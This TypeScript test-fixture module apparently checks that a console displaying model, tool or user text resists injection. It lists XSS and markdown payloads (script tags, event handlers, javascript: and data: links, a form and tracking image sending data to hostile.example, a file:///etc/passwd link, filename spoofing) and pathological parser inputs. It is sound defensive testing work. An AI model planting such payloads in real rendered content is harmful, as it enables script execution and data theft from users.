/** What a model, a tool or another person may put into texts that the console shows. If any of it runs, it sets `hostile`. */

const RUN = 'globalThis.hostile=1';

/** Texts that a page of little care would carry out, or ask another host for. */
export const hostileTexts: readonly string[] = [
  `<script>${RUN}</script>`,
  `</p></div><script src="https://hostile.example/x.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="https://hostile.example/pixel.png" width="1" height="1">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>`,
  `<iframe src="javascript:parent.hostile=1"></iframe>`,
  `<object data="data:text/html,<script>top.hostile=1</script>"></object>`,
  `<embed src="https://hostile.example/x.swf">`,
  `<style>@import url(https://hostile.example/x.css); * { display: none !important }</style>`,
  `<link rel="stylesheet" href="https://hostile.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=https://hostile.example/">`,
  `<base href="https://hostile.example/">`,
  `<form action="https://hostile.example/"><input name=password autofocus onfocus="${RUN}"></form>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<a href="javascript:${RUN}">raw link</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `[link](javascript:${RUN})`,
  `[link](JaVaScRiPt:${RUN})`,
  `[link](java\u0009script:${RUN})`,
  `[link](&#106;avascript:${RUN})`,
  `[link](data:text/html;base64,PHNjcmlwdD50b3AuaG9zdGlsZT0xPC9zY3JpcHQ+)`,
  `[link](vbscript:msgbox)`,
  `[link](file:///etc/passwd)`,
  `[reference][r] and [r]: javascript:${RUN}`,
  `![image](https://hostile.example/track.png?secret=1)`,
  `![image](javascript:${RUN})`,
  `![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  `![x](x "onerror=${RUN}")`,
  `<https://hostile.example/\u202Egnp.exe>`,
  `javascript:${RUN}`,
  '```html <script>globalThis.hostile=1</script>',
  '`unclosed **and _broken [markdown](',
  '| a | b\\n|---|\\n| <img src=x onerror=globalThis.hostile=1> | c |',
  `\u202Ereversed\u202C and \u2066isolated\u2069 and \u200Binvisible`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}}`,
  `<template><script>${RUN}</script></template><noscript><img src=x onerror="${RUN}"></noscript>`,
  `$$\\href{javascript:${RUN}}{x}$$`,
  '# <b onmouseover="globalThis.hostile=1">heading</b>',
];

/** Markdown that is broken or deep, which a parser may take very long for. */
export const hardMarkdown: readonly string[] = [
  '['.repeat(2_000),
  '*_'.repeat(1_500),
  '> '.repeat(500),
  '`'.repeat(3_001),
  `${'- '.repeat(300)}x`,
  `|${'a|'.repeat(400)}\\n|${'-|'.repeat(400)}`,
  `${'<a '.repeat(1_000)}`,
];
